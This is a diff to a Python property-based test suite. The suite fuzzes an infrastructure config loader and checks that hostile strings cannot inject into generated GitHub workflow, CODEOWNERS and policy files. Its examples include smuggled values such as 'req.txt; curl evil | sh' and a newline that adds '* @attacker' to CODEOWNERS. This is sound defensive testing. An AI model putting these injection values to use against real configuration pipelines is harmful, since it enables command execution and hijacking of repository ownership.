@@ -73,7 +73,12 @@ def _string_leaves(node: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...
     return []
 
 
-LEAVES = _string_leaves(BASE)
+# Every section of the stack, the governance one with the extra leaves above.
+SECTIONS = {
+    key: BASE if key == GITHUB else json.loads(value) if value[:1] in "{[" else value
+    for key, value in FLAT.items()
+}
+LEAVES = _string_leaves(SECTIONS)
 
 
 def _files(config: StackConfig) -> dict[str, str]:
@@ -123,7 +128,7 @@ SCRIPTS = {p: _run_scripts(yaml.safe_load(t)) for p, t in BASELINE.items() if p.
 @st.composite
 def hostile(draw: st.DrawFn) -> tuple[tuple[Any, ...], str]:
     path = draw(st.sampled_from(LEAVES))
-    node: Any = BASE
+    node: Any = SECTIONS
     for part in path:
         node = node[part]
     payload = draw(st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=20)))
@@ -133,18 +138,21 @@ def hostile(draw: st.DrawFn) -> tuple[tuple[Any, ...], str]:
 
 
 def _check(path: tuple[Any, ...], value: str) -> None:
-    github = copy.deepcopy(BASE)
-    node = github
+    sections = copy.deepcopy(SECTIONS)
+    node = sections
     for part in path[:-1]:
         node = node[part]
     node[path[-1]] = value
-    flat = {**FLAT, GITHUB: json.dumps(github)}
+    flat = {k: v if isinstance(v, str) else json.dumps(v) for k, v in sections.items()}
     try:
         config = load_stack("Pulumi.prod.yaml", flat, stack="prod")
     except ConfigError as exc:
         for line in exc.render().split("\n"):
             assert line.startswith("Pulumi.prod.yaml: tbcoin-platform:"), line
         return
+    # Outside the files below, config strings reach only structured objects (manifests, Helm
+    # values, API fields); none can carry a line break or other control character there.
+    assert not re.search(r"[\x00-\x1f\x7f]", value), (path, value)
     files = _files(config)
     assert sorted(files) == sorted(BASELINE)
     for name, text in files.items():
@@ -163,10 +171,10 @@ def _check(path: tuple[Any, ...], value: str) -> None:
 )
 @given(hostile())
 # The cases of issue 18: a newline in a pin's version, in the requirements file, in a pattern.
-@example((("actionPins", "actions/checkout", "version"), "v4.2.2" + PAYLOADS[0]))
-@example((("defaults", "workflows", "requirementsFile"), "req.txt; curl evil.example | sh"))
-@example((("defaults", "codeowners", 2, "pattern"), "/docs/\n* @attacker"))
-@example((("defaults", "securityPolicy", "supportedVersions", 0, "version"), PAYLOADS[9]))
+@example(((GITHUB, "actionPins", "actions/checkout", "version"), "v4.2.2" + PAYLOADS[0]))
+@example(((GITHUB, "defaults", "workflows", "requirementsFile"), "req.txt; curl evil | sh"))
+@example(((GITHUB, "defaults", "codeowners", 2, "pattern"), "/docs/\n* @attacker"))
+@example(((GITHUB, "defaults", "securityPolicy", "supportedVersions", 0, "version"), PAYLOADS[9]))
 def test_config_strings_reach_generated_files_only_as_data(
     case: tuple[tuple[Any, ...], str],
 ) -> None:
@@ -176,14 +184,17 @@ def test_config_strings_reach_generated_files_only_as_data(
 def test_every_string_leaf_is_fuzzed() -> None:
     keys = {"/".join(str(p) for p in path if not isinstance(p, int)) for path in LEAVES}
     for expected in (
-        "actionPins/actions/checkout/version",
-        "defaults/workflows/requirementsFile",
-        "defaults/codeowners/pattern",
-        "defaults/codeowners/owners",
-        "defaults/securityPolicy/supportedVersions/version",
-        "defaults/securityPolicy/contact",
-        "defaults/labels/description",
-        "defaults/dependabot/timezone",
+        f"{GITHUB}/actionPins/actions/checkout/version",
+        f"{GITHUB}/defaults/workflows/requirementsFile",
+        f"{GITHUB}/defaults/codeowners/pattern",
+        f"{GITHUB}/defaults/codeowners/owners",
+        f"{GITHUB}/defaults/securityPolicy/supportedVersions/version",
+        f"{GITHUB}/defaults/securityPolicy/contact",
+        f"{GITHUB}/defaults/labels/description",
+        f"{GITHUB}/defaults/dependabot/timezone",
+        "tbcoin-platform:services/inference/strategy/header/value",
+        "tbcoin-platform:monitoring/alerting/receivers/channel",
+        "tbcoin-platform:environments/production/hostname",
     ):
         assert expected in keys, sorted(keys)
 
@@ -235,3 +246,64 @@ def test_the_widest_accepted_values_leave_zizmor_clean(tmp_path: Path) -> None:
             (folder / Path(name).name).write_text(text)
     assert len(list(folder.iterdir())) >= 5
     assert zizmor(folder) == []
+
+
+# Strings checked otherwise: layer keys are RepositorySettings' own keys (unknown ones are
+# refused), action names by GitHubConfig's validator, and secret values are never written.
+UNPATTERNED = {
+    "GitHubConfig.defaults{key}",
+    "GitHubConfig.groups{}{key}",
+    "GitHubConfig.repositories{}{key}",
+    "GitHubConfig.action_pins{key}",
+    "StackConfig.secrets{}",
+}
+
+
+def _unpatterned(annotation: Any, where: str, seen: set[type]) -> list[str]:
+    """Config strings (fields, list items, mapping keys and values) with no pattern."""
+    import types
+    import typing
+
+    from pydantic import BaseModel
+
+    origin = typing.get_origin(annotation)
+    args = typing.get_args(annotation)
+    if origin is typing.Annotated:
+        base, *meta = args
+        if base is str:
+            checked = any(getattr(m, "pattern", None) or hasattr(m, "func") for m in meta)
+            return [] if checked else [where]
+        return _unpatterned(base, where, seen)
+    if origin in (typing.Union, types.UnionType):
+        return [w for a in args for w in _unpatterned(a, where, seen)]
+    if origin in (list, tuple):
+        return [w for a in args for w in _unpatterned(a, f"{where}[]", seen)]
+    if origin is dict:
+        return _unpatterned(args[0], f"{where}{{key}}", seen) + _unpatterned(
+            args[1], f"{where}{{}}", seen
+        )
+    if annotation is str:
+        return [where]
+    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
+        if annotation in seen:
+            return []
+        seen.add(annotation)
+        found = []
+        for name, info in annotation.model_fields.items():
+            if any(getattr(m, "pattern", None) for m in info.metadata):
+                continue
+            field = info.annotation
+            if info.metadata:
+                field = typing.Annotated[field, *info.metadata]
+            found += _unpatterned(field, f"{annotation.__name__}.{name}", seen)
+        return found
+    return []
+
+
+def test_every_config_string_has_a_strict_pattern() -> None:
+    from infra.config.github import RepositorySettings
+
+    seen: set[type] = set()
+    found = _unpatterned(StackConfig, "StackConfig", seen)
+    found += _unpatterned(RepositorySettings, "RepositorySettings", seen)
+    assert set(found) == UNPATTERNED
